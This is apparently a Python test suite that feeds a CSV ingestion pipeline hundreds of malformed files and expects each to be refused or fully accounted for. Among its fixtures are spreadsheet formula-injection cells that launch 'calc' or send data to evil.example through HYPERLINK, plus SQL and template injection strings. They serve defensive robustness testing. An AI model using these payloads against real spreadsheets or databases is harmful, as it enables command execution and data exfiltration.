"""Delimited files that are wrong in every way that was thought of: refused with a next step, or every row accounted.

Belongs here: deliveries of text. Does not belong here: what is asked of what comes of them (`receiving.py`), Parquet,
JSON (`test_bad_files.py`), declarations (`test_bad_declarations.py`).
"""

# ruff: noqa: E501  (the tables have one delivery a line)

from __future__ import annotations

import bz2
import csv
import gzip
import io
import lzma
import random
import sqlite3
import tarfile
import zipfile
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.under_fire.receiving import (
    COLUMNS,
    WHO,
    Reception,
    Refused,
    Taken,
    good,
    people,
    person,
    received_rows,
    text,
)

GOOD = good("csv")
HEAD, *BODY = GOOD.decode().splitlines(keepends=True)
NAMES = list(COLUMNS)


def head(old: str, new: str) -> bytes:
    """The good file with another header; the new one may hold more columns, which are empty."""
    names = HEAD.rstrip("\n").replace(old, new, 1)
    more = names.count(",") - HEAD.count(",")
    return (names + "\n" + "".join(line.rstrip("\n") + "," * more + "\n" for line in BODY)).encode()


def headed(*names: str) -> bytes:
    """Everybody under these names, and more columns than the header of the good file where there are more names."""
    written = io.StringIO()
    out = csv.writer(written, lineterminator="\n")
    out.writerow(names)
    for one in people():
        out.writerow([*one.values(), *([f"{WHO} more"] * (len(names) - len(one)))][: len(names)])
    return written.getvalue().encode()


def lines_with(**replaced: str | bytes) -> bytes:
    """The good file with other lines in place of some: `_3` is the third below the header."""
    rows: list[bytes] = [line.encode() for line in BODY]
    for place, line in replaced.items():
        rows[int(place[1:]) - 1] = line if isinstance(line, bytes) else line.encode()
    return HEAD.encode() + b"".join(rows)


def cell(column: str, value: str) -> bytes:
    """The good file in which the third person has this cell."""
    return text(people(**{column: value})).encode()


def cells(column: str, *values: str) -> bytes:
    """The good file, and below it one more person for each of these cells."""
    return text(
        [*people(), *(person(n, patient_id=f"q-{n}") | {column: value} for n, value in enumerate(values))]
    ).encode()


def bad(column: str, fault: str, *values: str) -> tuple[bytes, Taken]:
    """Each of these cells puts its row aside."""
    return cells(column, *values), Taken(len(values), (f"{column}:{fault}",))


def fine(column: str, *values: str) -> tuple[bytes, Taken]:
    """None of these cells is anything but odd."""
    return cells(column, *values), Taken()


def raw_cell(column: str, value: bytes, quoted: bool = False) -> bytes:
    """The same, in bytes that need not be text."""
    mark = b"@@@"
    value = b'"' + value + b'"' if quoted else value
    return cell(column, mark.decode()).replace(mark, value)


def zipped() -> bytes:
    """The good file in an archive."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("people.csv", GOOD)
    return archive.getvalue()


def tarred() -> bytes:
    """The good file in another one."""
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as file:
        member = tarfile.TarInfo("people.csv")
        member.size = len(GOOD)
        file.addfile(member, io.BytesIO(GOOD))
    return archive.getvalue()


def database() -> bytes:
    """A file of SQLite."""
    con = sqlite3.connect(":memory:")
    con.execute("CREATE TABLE people (name TEXT)")
    con.execute("INSERT INTO people VALUES (?)", (WHO,))
    con.commit()
    content = con.serialize()
    con.close()
    return content


LINE = BODY[2].rstrip("\n")
MISSING = Refused("is missing in the source")
ALIKE = Refused("cannot be told apart")
ODD_LINE_ENDS = Refused("cannot be read as csv")
NOTHING_LEFT = Refused("has_rows is broken")
TOO_MANY = Refused("quarantine_share is broken")
LINE_ASIDE = Taken(1, ("malformed line",))


FILES: dict[str, tuple[bytes, Taken | Refused]] = {
    # nothing, or nearly nothing
    "empty": (b"", MISSING),
    "one line end": (b"\n", MISSING),
    "only line ends": (b"\n" * 100, MISSING),
    "only a BOM": (b"\xef\xbb\xbf", MISSING),
    "a BOM and a line end": (b"\xef\xbb\xbf\n", MISSING),
    "one space": (b" ", MISSING),
    "one NUL": (b"\0", MISSING),
    "a page of NUL": (b"\0" * 4096, MISSING),
    "header only": (HEAD.encode(), Refused("has no row")),
    "header without a line end": (HEAD.rstrip("\n").encode(), Refused("has no row")),
    "header with CRLF": (HEAD.replace("\n", "\r\n").encode(), Refused("has no row")),
    "header and blank lines": (HEAD.encode() + b"\n\n\n", Refused("has no row")),
    "header cut in the middle": (HEAD[:40].encode(), MISSING),
    # headers
    "no header": ("".join(BODY).encode(), MISSING),
    "a header twice": (HEAD.encode() + GOOD, Taken(1, ("age:unreadable", "cost:unreadable", "height:unreadable", "registered:unreadable", "seen:unreadable", "sex:outside domain", "smoker:unreadable"))),
    "duplicate column": (head("name", "name,name"), ALIKE),
    "duplicate column by case": (head("name", "name,NAME"), ALIKE),
    "duplicate column by the case of another alphabet": (head("name", "name,É,é"), ALIKE),
    "duplicate unknown column": (head("name", "name,more,more"), ALIKE),
    "one column by another case": (head("name", "Name"), MISSING),
    "one column missing": (text({k: v for k, v in row.items() if k != "sex"} for row in people()).encode(), MISSING),
    "one header empty": (headed(*NAMES, ""), Taken()),
    "two headers empty": (headed(*NAMES, "", ""), Taken()),
    "an empty header and its stand-in": (headed(*NAMES, "", "unnamed_11"), ALIKE),
    "all headers empty": (b"," * 9 + b"\n" + "".join(BODY).encode(), MISSING),
    "a promised header empty": (head("name", ""), MISSING),
    "space around headers": (HEAD.replace(",", " , ").encode() + "".join(BODY).encode(), MISSING),
    "quoted headers": (",".join(f'"{name}"' for name in NAMES).encode() + b"\n" + "".join(BODY).encode(), Taken()),
    "a BOM": (b"\xef\xbb\xbf" + GOOD, Taken()),
    "two BOMs": (b"\xef\xbb\xbf" * 2 + GOOD, MISSING),
    "a BOM before each line": (b"".join(b"\xef\xbb\xbf" + line.encode() for line in (HEAD, *BODY)), NOTHING_LEFT),
    "a reserved header": (headed(*NAMES, "_row"), ALIKE),
    "a reserved header by case": (headed(*NAMES, "_ROW"), ALIKE),
    "the reserved header of reasons": (headed(*NAMES, "_reasons"), ALIKE),
    "the reserved header of lines": (headed(*NAMES, "_line"), ALIKE),
    "a header with a line end": (headed(*NAMES, "a\nb"), Taken()),
    "a header of 100,000 characters": (headed(*NAMES, "x" * 100_000), Taken()),
    "a header of NUL": (headed(*NAMES, "a\0b"), Refused("no table can keep")),
    "a header of broken UTF-8": (headed(*NAMES, "@@@").replace(b"@@@", b"\xff\xfe"), Taken()),
    "a promised header of broken UTF-8": (head("name", "@@@").replace(b"@@@", b"nam\xc3"), MISSING),
    "a header that nobody sees": (headed(*NAMES, "\u200b"), Taken()),
    "a header from right to left": (headed(*NAMES, "\u202eemanٱسم"), Taken()),
    "a header with emoji": (headed(*NAMES, "👩‍⚕️"), Taken()),
    "a header in two compositions": (headed(*NAMES, "caf\u00e9", "cafe\u0301"), Taken()),
    "headers that differ in a space": (headed(*NAMES, "x", "x "), Taken()),
    "headers like SQL": (headed(*NAMES, '"; DROP TABLE data; --', "select", "1=1", "* FROM data", "a.b"), Taken()),
    "headers with quotes": (headed(*NAMES, '"', "'", "''", '""', "`", "$$", "\\"), Taken()),
    "headers of our own": (headed(*NAMES, "c0", "v0", "t0", "number", "faults", "line", "rowid", "earliest", "fault"), Taken()),
    "headers of the engine": (headed(*NAMES, "filename", "__index_level_0__", "column0", "data", "main"), Taken()),
    "headers like templates": (headed(*NAMES, "${HOME}", "{{7*7}}", "%s", "{0}", "$now"), Taken()),
    "a header that is a person": (headed(*NAMES, f"{WHO} 99"), Taken()),
    "5,000 columns": (headed(*NAMES, *(f"more_{place}" for place in range(4990))), Taken()),
    "5,000 headers and no cells": (",".join([*NAMES, *(f"x{n}" for n in range(4990))]).encode() + b"\n" + "".join(BODY).encode(), NOTHING_LEFT),
    "columns in another order": (text(dict(reversed(row.items())) for row in people()).encode(), Taken()),
    # delimiters
    "semicolons": (GOOD.replace(b",", b";"), MISSING),
    "tabs": (GOOD.replace(b",", b"\t"), MISSING),
    "pipes": (GOOD.replace(b",", b"|"), MISSING),
    "spaces": (GOOD.replace(b",", b" "), MISSING),
    "a delimiter at every end": (GOOD.replace(b"\n", b",\n"), Taken()),
    "a delimiter at the end of rows": ((HEAD + "".join(BODY).replace("\n", ",\n")).encode(), Taken()),
    "one row by another delimiter": (lines_with(_3=BODY[2].replace(",", ";")), LINE_ASIDE),
    "half of it by another delimiter": ((HEAD + "".join(BODY[:11]) + "".join(BODY[11:]).replace(",", ";")).encode(), Taken(9, ("malformed line",))),
    "a declared delimiter": (b"sep=,\n" + GOOD, MISSING),
    # line ends
    "CRLF": (GOOD.replace(b"\n", b"\r\n"), Taken()),
    "CR": (GOOD.replace(b"\n", b"\r"), Taken()),
    "CRCRLF": (GOOD.replace(b"\n", b"\r\r\n"), ODD_LINE_ENDS),
    "LF, then CRLF": (GOOD[:300] + GOOD[300:].replace(b"\n", b"\r\n"), ODD_LINE_ENDS),
    "CRLF, then LF": (GOOD[:300].replace(b"\n", b"\r\n") + GOOD[300:], ODD_LINE_ENDS),
    "CRLF in the header only": (HEAD.replace("\n", "\r\n").encode() + "".join(BODY).encode(), ODD_LINE_ENDS),
    "LF in the header only": (HEAD.encode() + "".join(BODY).replace("\n", "\r\n").encode(), ODD_LINE_ENDS),
    "one CR among LF": (lines_with(_3=LINE + "\r"), ODD_LINE_ENDS),
    "one CRLF among LF": (lines_with(_3=LINE + "\r\n"), ODD_LINE_ENDS),
    "LFCR": (GOOD.replace(b"\n", b"\n\r"), ODD_LINE_ENDS),
    "without the last line end": (GOOD.rstrip(b"\n"), Taken()),
    "blank lines": (GOOD.replace(b"\n", b"\n\n"), Taken()),
    "blank lines at the end": (GOOD + b"\n" * 50, Taken()),
    "blank lines at the start": (b"\n\n\n" + GOOD, MISSING),
    "a line of spaces": (lines_with(_3=f"{LINE}\n   \n"), LINE_ASIDE),
    "NEL for line ends": (GOOD.replace(b"\n", b"\xc2\x85"), MISSING),
    "U+2028 for line ends": (GOOD.replace(b"\n", b"\xe2\x80\xa8"), MISSING),
    "form feeds between lines": (GOOD.replace(b"\n", b"\n\f"), NOTHING_LEFT),
    "the end of a file in DOS": (GOOD + b"\x1a", LINE_ASIDE),
    # quotes
    "a quote never closed": (raw_cell("name", f'"{WHO}'.encode()), Taken(18, ("malformed line",))),
    "a quote never closed in the first row": (lines_with(_1='"' + BODY[0]), NOTHING_LEFT),
    "a quote never closed in the last row": (lines_with(_20='"' + BODY[19]), LINE_ASIDE),
    "a quote in the header never closed": (b'"' + GOOD, MISSING),
    "a quote amid a cell": (raw_cell("name", b'Zwyxa"quen'), Taken()),
    "a quote at the end of a cell": (raw_cell("name", b'Zwyxaquen"'), Taken()),
    "text after a quote": (raw_cell("name", b'"Zwyxaquen" Brandoqel'), LINE_ASIDE),
    "a quote escaped by a backslash": (raw_cell("name", b'"Zwyxa\\"quen"'), LINE_ASIDE),
    "single quotes around a delimiter": (raw_cell("name", b"'Zwyxaquen, Brandoqel'"), LINE_ASIDE),
    "typographic quotes around a delimiter": (raw_cell("name", "“Zwyxaquen, B”".encode()), LINE_ASIDE),
    "only a quote": (raw_cell("name", b'"'), Taken(18, ("malformed line",))),
    "three quotes": (raw_cell("name", b'"""'), Taken(18, ("malformed line",))),
    "quotes around nothing": (raw_cell("name", b'""'), Taken()),
    "everything quoted": (text([{f"{k}": v for k, v in row.items()} for row in people()]).encode().replace(b",", b'","').replace(b"\n", b'"\n"')[:-1].join([b'"', b""]), Taken()),
    "a quote as the last byte": (GOOD + b'"', LINE_ASIDE),
    "a line of quotes": (lines_with(_3='"' * 99 + "\n"), Taken(18, ("malformed line",))),
    # too few and too many
    "a line cut short": (lines_with(_3=LINE[:20] + "\n"), LINE_ASIDE),
    "the last line cut short": (GOOD[:-30], LINE_ASIDE),
    "a line with one cell more": (lines_with(_3=LINE + f",{WHO}\n"), LINE_ASIDE),
    "a line of 10,000 empty cells": (lines_with(_3=LINE + "," * 10_000 + "\n"), Taken()),
    "a line with one word": (lines_with(_3=f"{WHO}\n"), LINE_ASIDE),
    "a comment": (lines_with(_3=f"# {WHO}\n"), LINE_ASIDE),
    "a line of delimiters": (lines_with(_3="," * 9 + "\n"), Taken(1, ("patient_id:no subject", "registered:missing"))),
    "a total at the end": (GOOD + b"20 rows\n", LINE_ASIDE),
    "two files in one": (GOOD + GOOD, Taken(21, ("age:unreadable", "cost:unreadable", "height:unreadable", "patient_id:duplicate", "registered:unreadable", "seen:unreadable", "sex:outside domain", "smoker:unreadable"))),
    # encodings
    "broken UTF-8 in a cell": (raw_cell("name", b"Zwyxaquen \xff\xfe"), LINE_ASIDE),
    "half a character in a cell": (raw_cell("name", b"Zwyxaquen \xc3"), LINE_ASIDE),
    "half a character at the end": (GOOD.rstrip(b"\n") + b"\xe2\x82", LINE_ASIDE),
    "a character written too long": (raw_cell("name", b"Zwyxaquen \xc0\xaf"), LINE_ASIDE),
    "a surrogate in UTF-8": (raw_cell("name", b"Zwyxaquen \xed\xa0\x80"), LINE_ASIDE),
    "a character beyond Unicode": (raw_cell("name", b"Zwyxaquen \xf4\x90\x80\x80"), LINE_ASIDE),
    "broken UTF-8 in a quoted cell": (raw_cell("name", b"Zwyxaquen \xff", quoted=True), LINE_ASIDE),
    "broken UTF-8 beside a quoted line end": (raw_cell("name", b"Zwyxaquen\n\xff", quoted=True), Taken(2, ("malformed line",))),
    "Latin-1": (text(people(name=f"{WHO} Müller")).encode("latin-1"), LINE_ASIDE),
    "all of it Latin-1": (text({**row, "name": "Zwyxaquen Müller"} for row in people()).encode("latin-1"), NOTHING_LEFT),
    "UTF-16": (GOOD.decode().encode("utf-16"), MISSING),
    "UTF-16 from the other end": (b"\xfe\xff" + GOOD.decode().encode("utf-16-be"), MISSING),
    "UTF-16 without a mark": (GOOD.decode().encode("utf-16-le"), MISSING),
    "UTF-32": (GOOD.decode().encode("utf-32"), MISSING),
    "UTF-7": (text(people(name="Zwyxaquen +AOk-")).encode(), Taken()),
    "EBCDIC": (GOOD.decode().encode("cp500"), MISSING),
    "Shift-JIS": (text(people(name="Zwyxaquen 山田")).encode("shift-jis"), LINE_ASIDE),
    "GB18030": (text(people(name="Zwyxaquen 张伟")).encode("gb18030"), LINE_ASIDE),
    "UTF-8 read as Latin-1": (text(people(name="Zwyxaquen Müller")).encode().decode("latin-1").encode(), Taken()),
    # NUL
    "a NUL in a cell": (raw_cell("name", b"Zwyxa\0quen"), Taken()),
    "a NUL in a quoted cell": (raw_cell("name", b"Zwyxa\0quen", quoted=True), Taken()),
    "a NUL in a number": (raw_cell("age", b"2\x003"), Taken(1, ("age:unreadable",))),
    "a NUL as the subject": (raw_cell("patient_id", b"\0"), Taken(1, ("patient_id:space around it",))),
    "a line of NUL": (lines_with(_3=b"\0" * 100 + b"\n"), LINE_ASIDE),
    "NUL to the end": (GOOD + b"\0" * 5000, LINE_ASIDE),
    # sizes
    "a cell of 100,000 characters": (cell("name", WHO + "x" * 100_000), Taken()),
    "a subject of 100,000 characters": (cell("patient_id", "p" * 100_000), Taken()),
    "a number of 100,000 digits": (cell("age", "9" * 100_000), Taken(1, ("age:unreadable",))),
    "a date of 100,000 characters": (cell("registered", "2024-01-01" + " " * 100_000), Taken()),
    "a cell of 100,000 quotes": (cell("name", '"' * 100_000), Taken()),
    "a cell of 100,000 line ends": (cell("name", "\n" * 100_000), Taken()),
    "a cell of 100,000 combining characters": (cell("name", "e" + "\u0301" * 100_000), Taken()),
    "a cell of 3 MB": (cell("name", "x" * 3_000_000), LINE_ASIDE),
    "every cell of a line of 100,000 characters": (lines_with(_3=",".join(["x" * 100_000] * 10) + "\n"), Taken(1, ("age:unreadable", "cost:unreadable", "height:unreadable", "registered:unreadable", "seen:unreadable", "sex:outside domain", "smoker:unreadable"))),
    "a line of 20 MB": (lines_with(_3="x" * 20_000_000 + "\n"), LINE_ASIDE),
    # what a spreadsheet would run
    "a formula": (cell("name", "=cmd|' /C calc'!A0"), Taken()),
    "a formula with a plus": (cell("name", "+1+1"), Taken()),
    "a formula with a minus": (cell("name", "-1+1"), Taken()),
    "a formula with an at": (cell("name", "@SUM(1+1)*cmd|' /C calc'!A0"), Taken()),
    "a formula after a tab": (cell("name", "\t=1+1"), Taken()),
    "a formula that fetches": (cell("email", '=HYPERLINK("http://evil.example?"&A1,"x")'), Taken()),
    "a formula for a number": (cell("age", "=1+1"), Taken(1, ("age:unreadable",))),
    # what an engine would run
    "SQL in a cell": (cell("name", "'); DROP TABLE data; --"), Taken()),
    "SQL in a subject": (cell("patient_id", "' OR '1'='1"), Taken()),
    "a template in a cell": (cell("name", "${HOME} {{7*7}} %s {0} $now"), Taken()),
    "NULL as text": (cell("name", "NULL"), Taken()),
    "NULL of PostgreSQL": (cell("name", r"\N"), Taken()),
    "markup of a terminal": (cell("name", "[red]x[/red] \x1b[31m"), Taken()),
    # numbers
    "bad ages": bad("age", "unreadable", "32768", "-32769", "9" * 40, "1e3", "1_0", "0x1F", "0b1", "1.5", "twenty", "1,5", "$5", "--1", "1 2", "٣٤", "３４", "½", "Ⅻ", "nan", "inf", "true", "²"),
    "odd ages": fine("age", "007", "+12", "12.0", "-0", " 12 "),
    "bad heights": bad("height", "unreadable", "nan", "NaN", "inf", "-Infinity", "1e400", "-1e400", "1_0.5", "1,5", "1.2.3", "0x1p3", "1e", "9" * 400),
    "odd heights": fine("height", "1e-400", "1e308", "-0.0", ".5", "5."),
    "bad costs": bad("cost", "unreadable", "100000000", "-100000000.00", "1.239", "1e2", "1,00", "€5", "nan", "9" * 400),
    "odd costs": fine("cost", "99999999.99", "1.2300", "-0.00", "+7"),
    "bad truth values": bad("smoker", "unreadable", "perhaps", "2", "да", "-1", "truee"),
    # dates
    "bad dates": bad("registered", "unreadable", "0000-00-00", "0000-01-01", "2024-02-30", "2023-02-29", "2024-13-01", "10000-01-01", "5877642-06-25", "31/12/2024", "12/31/2024", "20240101", "yesterday",
        "epoch", "infinity", "-infinity", "0044-03-15 (BC)", "2024-01-01 10:00:00", "1704067200", "45292", "2024-W01-1", "٢٠٢٤-٠١-٠١"),
    "odd dates": fine("registered", "9999-12-31", "2024-1-1", "2024/01/02"),
    "bad times": bad("seen", "unreadable", "2024-01-01 25:00:00", "2024-01-01 00:61:00", "2024-01-01 00:00:61", "10000-01-01 00:00:00", "9999-12-31T23:59:59-01:00", "0001-01-01T00:00:00+01:00",
        "infinity", "epoch", "now", "today", "2024-02-30 00:00:00", "2024-01-01T00:00:00+99:99", "1704067200", "12:30"),
    "mixed types late": (text([*(person(n % 20 + 1, patient_id=f"q-{n}") for n in range(5000)), person(1, patient_id="q-x", age="forty")]).encode(), Taken(1, ("age:unreadable",))),
    # categories and subjects
    "bad categories": bad("sex", "outside domain", "f", " F", "F ", "FF", "Ｆ", "М", "F\u0301", "NULL"),
    "a subject twice": (lines_with(_3=BODY[1]), Taken(1, ("patient_id:duplicate",))),
    "one subject everywhere": (text({**row, "patient_id": "p-01"} for row in people()).encode(), TOO_MANY),
    "no subject": (cell("patient_id", ""), Taken(1, ("patient_id:no subject",))),
    "no subject anywhere": (text({**row, "patient_id": ""} for row in people()).encode(), NOTHING_LEFT),
    "half of the subjects missing": (text([*people()[:10], *({**row, "patient_id": ""} for row in people()[10:])]).encode(), Taken(10, ("patient_id:no subject",))),
    "bad subjects": bad("patient_id", "space around it", " p-03", "p-03 ", "\tp-03", "p-03\u00a0", "\u200bp-03", "p-03\u202e", "\ufeffp-03", "   ", "p-03\n"),
    "subjects that differ in case": (cell("patient_id", "P-02"), Taken()),
    "subjects in two compositions": (text([*people(), person(4, patient_id="caf\u00e9"), person(5, patient_id="cafe\u0301")]).encode(), Taken()),
    # names
    **{f"a name with {what}": fine("name", *(f"Zwyxaquen {value}" for value in values)) for what, values in {
        "emoji": ("😀", "👨‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "\ufe0f"),
        "letters from right to left": ("דוד", "محمد", "\u202egpj.exe", "\u2067x\u2069", "\u202b"),
        "combining characters": ("Z" + "\u0300\u0301\u0302\u0489" * 40, "\u0301", "\u1112\u1161\u11ab", "z̷̢̛a̶l̵g̷o̴", "cafe\u0301"),
        "characters of nobody": ("\ue000", "\ufffe\uffff", "\ufffd", "\U0010ffff", "𐌀𐌁", "a\u00adb", "a\ufeffb"),
        "controls": ("\x07", "\x1b]0;x\x07", "a\x1fb", "a\x1eb", "\x7f", "a\vb", "a\fb", "a\x85b", "a\u2028b", "a\tb"),
        "line ends": ("a\nb", "a\r\nb", "a\n\n\nb", "a\n", "\na", "\n", "\r\n\r\n"),
    }.items()},
    "a name with CR in quotes": (raw_cell("name", b"a\rb", quoted=True), Taken()),
    "a name with CR in no quotes": (raw_cell("name", b"a\rb"), ODD_LINE_ENDS),
    # in disguise
    "zip": (zipped(), MISSING),
    "gzip": (gzip.compress(GOOD), MISSING),
    "bzip2": (bz2.compress(GOOD), MISSING),
    "xz": (lzma.compress(GOOD), MISSING),
    "tar": (tarred(), Refused("no table can keep")),
    "Parquet": (good("parquet"), MISSING),
    "NDJSON": (good("ndjson"), MISSING),
    "SQLite": (database(), MISSING),
    "PDF": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Title (Zwyxaquen) >>\n", MISSING),
    "PNG": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 100, MISSING),
    "HTML": (b"<!DOCTYPE html><html><body><h1>Zwyxaquen, not found</h1></body></html>\n", MISSING),
    "XML": (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "Zwyxaquen">]><x>&a;</x>\n', MISSING),
    "random bytes": (random.Random(1).randbytes(100_000), MISSING),
    "the header, then random bytes": (HEAD.encode() + random.Random(2).randbytes(20_000), ODD_LINE_ENDS),
}  # fmt: skip


OTHERS: dict[str, tuple[str, bytes, Taken | Refused]] = {
    "one of twenty aside, as usual": ("strict", cell("age", "forty"), Taken(1, ("age:unreadable",))),
    "two of twenty aside, as usual": ("strict", lines_with(_3="x\n", _4="y\n"), TOO_MANY),
    "commas for semicolons": ("semicolon", GOOD, MISSING),
    "a comma for a point": ("semicolon", text(people(height="1,80"), ";").encode(), Taken(1, ("height:unreadable",))),
    "a semicolon in no quotes": ("semicolon", raw_cell("name", b"Zwyxaquen; B").replace(b",", b";"), LINE_ASIDE),
    "commas for tabs": ("tsv", GOOD, MISSING),
    "spaces for tabs": ("tsv", GOOD.replace(b",", b" " * 8), MISSING),
    "a tab in no quotes": ("tsv", raw_cell("name", b"Zwyxaquen\tB").replace(b",", b"\t"), LINE_ASIDE),
    "a tab escaped by a backslash": ("tsv", raw_cell("name", rb"Zwyxaquen\tB").replace(b",", b"\t"), Taken()),
    "nothing where no header is": ("headless", b"", Refused("has no row")),
    "a header where none is": (
        "headless",
        GOOD,
        Taken(
            1,
            (
                "age:unreadable",
                "cost:unreadable",
                "height:unreadable",
                "registered:unreadable",
                "seen:unreadable",
                "sex:outside domain",
                "smoker:unreadable",
            ),
        ),
    ),
    "one column too few where no header is": ("headless", b"p-01,x\n", NOTHING_LEFT),
    "one column too many everywhere": (
        "headless",
        "".join(line.replace("\n", ",x\n") for line in BODY).encode(),
        NOTHING_LEFT,
    ),
    "a BOM where no header is": ("headless", b"\xef\xbb\xbf" + "".join(BODY).encode(), Taken()),
    "space around everything": ("trimmed", GOOD.replace(b",", b" , "), Taken()),
    "only space for a subject": ("trimmed", cell("patient_id", "  \t "), Taken(1, ("patient_id:no subject",))),
    "a stand-in for nothing": ("trimmed", cell("registered", " NA "), Taken(1, ("registered:missing",))),
    "UTF-8 for UTF-16": ("utf-16", GOOD, ODD_LINE_ENDS),
    "a byte too few in UTF-16": ("utf-16", GOOD.decode().encode("utf-16")[:-1], ODD_LINE_ENDS),
    "a byte too many in UTF-16": ("utf-16", GOOD.decode().encode("utf-16") + b"\0", ODD_LINE_ENDS),
    "half a surrogate in UTF-16": (
        "utf-16",
        GOOD.decode().replace("Zwyxaquen", "\ud800Zw", 1).encode("utf-16", "surrogatepass"),
        ODD_LINE_ENDS,
    ),
    "half a surrogate at the end of UTF-16": (
        "utf-16",
        (GOOD.decode() + "\ud800").encode("utf-16", "surrogatepass"),
        ODD_LINE_ENDS,
    ),
    "UTF-16 from the other end, marked": (
        "utf-16",
        b"\xfe\xff" + GOOD.decode().encode("utf-16-be"),
        Refused("big-endian"),
    ),
    "UTF-16 without its mark": ("utf-16", GOOD.decode().encode("utf-16-le"), ODD_LINE_ENDS),
    "only the mark of UTF-16": ("utf-16", b"\xff\xfe", MISSING),
    "emoji in UTF-16": ("utf-16", text(people(name="Zwyxaquen 😀")).encode("utf-16"), Refused("convert it to UTF-8")),
    "UTF-8 for Latin-1": ("latin-1", text(people(name="Zwyxaquen Müller")).encode(), Taken()),
    "Windows for Latin-1": ("latin-1", text(people(name="Zwyxaquen “€”")).encode("cp1252"), Refused("windows-1252")),
    "controls in Latin-1": ("latin-1", raw_cell("name", bytes(range(0x80, 0xA0))), ODD_LINE_ENDS),
    "every byte in Latin-1": (
        "latin-1",
        raw_cell("name", bytes(x for x in range(1, 256) if x not in b'"\r\n,')),
        ODD_LINE_ENDS,
    ),
}


@pytest.fixture(scope="module")
def reception(tmp_path_factory: pytest.TempPathFactory) -> Reception:
    """Where they are received."""
    return Reception(tmp_path_factory.mktemp("text"))


@pytest.mark.parametrize("name", FILES)
def test_bad_text_is_refused_or_accounted_for(reception: Reception, name: str) -> None:
    """Commas, UTF-8: an error with a next step while all that is published stands, or every row in one of two places."""
    content, expected = FILES[name]
    reception.receive("csv", content, expected)


@pytest.mark.parametrize("name", OTHERS)
def test_text_of_another_kind_than_declared(reception: Reception, name: str) -> None:
    """Other delimiters, encodings and ways of reading: the same."""
    source, content, expected = OTHERS[name]
    reception.receive(source, content, expected)


def mutated(good: bytes, edits: list[tuple[float, str, bytes]]) -> bytes:
    """Bytes after these edits, each at a place between the beginning (0) and the end (1)."""
    content = bytearray(good)
    for where, how, with_ in edits:
        at = int(where * len(content))
        if how == "insert":
            content[at:at] = with_
        elif how == "replace":
            content[at : at + len(with_)] = with_
        elif how == "cut":
            del content[at : at + 8 * len(with_)]
        elif how == "end":
            del content[at:]
        else:
            content[at:at] = content[at // 2 : at]
    return bytes(content)


EDITS = st.lists(
    st.tuples(
        st.floats(0, 1, exclude_max=True),
        st.sampled_from(["insert", "replace", "cut", "end", "repeat"]),
        st.one_of(
            st.binary(min_size=1, max_size=4),
            st.sampled_from(
                [b'"', b",", b"\n", b"\r", b"\r\n", b"\0", b'"\n"', b'",', b"\xff", b"\xe2\x80", b"\n\n", b"\\"]
            ),
        ),
    ),
    min_size=1,
    max_size=4,
)
HOWEVER = {"deadline": None, "suppress_health_check": list(HealthCheck)}


def law_of_edits(reception: Reception, edits: list[tuple[float, str, bytes]]) -> None:
    """Whatever became of the file: it is refused, or its rows are accounted for."""
    content = mutated(GOOD, edits)
    rows = None
    read = received_rows("csv", content)
    if not all(read):
        # which lines a stray quote joins is for its reader to say: none is lost, and none is made
        rows = range(len(read) + 1)
    reception.receive("csv", content, None, rows=rows)


@settings(max_examples=25, **HOWEVER)
@given(edits=EDITS)
def test_whatever_byte_is_changed(reception: Reception, edits: list[tuple[float, str, bytes]]) -> None:
    """Law: bytes of a good file are replaced, put in, taken out or repeated; nothing crashes, no row is lost."""
    law_of_edits(reception, edits)


@pytest.mark.long
@settings(max_examples=1500, **HOWEVER)
@given(edits=EDITS)
def test_whatever_byte_is_changed_often(reception: Reception, edits: list[tuple[float, str, bytes]]) -> None:
    """The same, many times."""
    law_of_edits(reception, edits)


CELL = st.text(
    st.one_of(
        st.characters(exclude_categories=("Cs",)),
        st.sampled_from("\"',;\t\n\r\0\\ =+-@\u202e\u200d\u0301\ufeff😀א"),
    ),
    max_size=8,
)
ROWS = st.lists(st.tuples(CELL, CELL, CELL), min_size=1, max_size=30)
DIALECTS = st.tuples(st.sampled_from(["csv", "semicolon", "tsv"]), st.sampled_from(["\n", "\r\n", "\r"]))


def law_of_cells(reception: Reception, rows: list[tuple[str, str, str]], dialect: tuple[str, str]) -> None:
    """What Python writes in the declared dialect comes back as it was, or lies in quarantine as it was."""
    source, end = dialect
    delimiter = {"csv": ",", "semicolon": ";", "tsv": "\t"}[source]
    everybody = [*people(), *(person(1) | {"patient_id": a, "email": b, "name": c} for a, b, c in rows)]
    written = io.StringIO()
    # quoted, all of it: Python leaves a CR in no quotes where its lines end in LF
    out = csv.DictWriter(written, NAMES, delimiter=delimiter, lineterminator=end, quoting=csv.QUOTE_ALL)
    out.writeheader()
    out.writerows(everybody)
    came = reception.receive(source, written.getvalue().encode(), None)
    assert isinstance(came, Taken), came
    assert came.rows == len(everybody)
    assert "malformed line" not in came.reasons


@settings(max_examples=15, **HOWEVER)
@given(rows=ROWS, dialect=DIALECTS)
def test_whatever_stands_in_cells(
    reception: Reception, rows: list[tuple[str, str, str]], dialect: tuple[str, str]
) -> None:
    """Law: quotes, delimiters, line ends, NUL, emoji, bidirectional and combining characters make the round trip."""
    law_of_cells(reception, rows, dialect)


@pytest.mark.long
@settings(max_examples=600, **HOWEVER)
@given(rows=ROWS, dialect=DIALECTS)
def test_whatever_stands_in_cells_often(
    reception: Reception, rows: list[tuple[str, str, str]], dialect: tuple[str, str]
) -> None:
    """The same, many times."""
    law_of_cells(reception, rows, dialect)


def test_what_came_of_bad_text(reception: Reception, figures: Callable[..., None]) -> None:
    """What the tests above counted."""
    figures("bad input, text", **reception.tally.figures())
